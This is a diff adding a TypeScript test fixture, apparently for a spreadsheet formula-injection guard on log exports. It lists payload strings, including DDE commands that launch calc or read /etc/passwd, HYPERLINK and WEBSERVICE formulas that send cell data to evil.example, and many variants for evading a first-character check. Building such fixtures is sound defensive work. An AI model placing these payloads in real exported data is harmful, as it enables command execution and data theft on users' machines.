@@ -1,0 +1,65 @@
+/**
+ * What somebody might write into a field so that a spreadsheet runs it when the log is opened: each payload behind each
+ * start that is known to begin a formula, and what has been tried to get around a guard that looks at the first character.
+ */
+export const attackCells: readonly string[] = [
+  ...['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', '−'].flatMap((start) => [
+    start,
+    `${start}1+1`,
+    `${start}SUM(1,2)`,
+    `${start}cmd|' /C calc'!A0`,
+    `${start}DDE("soffice";"/etc/passwd";"A1")`,
+    `${start}HYPERLINK("https://evil.example/?"&A1,"見る")`,
+    `${start}WEBSERVICE("https://evil.example/"&A1)`,
+    `${start}=1+1`,
+  ]),
+  // Behind something that a spreadsheet, or a person who tidies up, takes away.
+  ...[
+    ' ',
+    '  ',
+    '\u00a0',
+    '　',
+    '\u200b',
+    '\ufeff',
+    "'",
+    "''",
+    '"',
+    '""',
+    '\n',
+    '\r\n',
+    '\t\t',
+    ' \t',
+    '\u0001',
+    '\u001f',
+  ].map((front) => `${front}=1+1`),
+  // What another encoding or font makes of a start.
+  ...['﹣', '﹢', '﹦', '﹫', '‐', '–', '—', '⁼', '⁺', '꞊', '％', '｜', '＂', '＇'].map((front) => `${front}1+1`),
+  // Out of the cell: quotes, separators and line breaks in the middle.
+  'a,=1+1',
+  'a;=1+1',
+  'a\t=1+1',
+  'a|=1+1',
+  'a",=1+1,"',
+  'a";=1+1;"',
+  '",=1+1,"',
+  '";=1+1;"',
+  '"\t=1+1\t"',
+  'a\n=1+1',
+  'a\r\n=1+1',
+  'a\r=1+1',
+  'a"\r\n=1+1,"',
+  '"\n=cmd|\' /C calc\'!A0\n"',
+  'a\r\n"",""=1+1',
+  '\\",=1+1',
+  // Other things that a spreadsheet reads as more than text.
+  '{=1+1}',
+  '[=1+1]',
+  '#REF!',
+  '%0A=1+1',
+  'sep=;',
+  'ID;P',
+  'https://evil.example/=1+1',
+  'A1+1',
+  '$A$1',
+  'Sheet1!A1',
+];
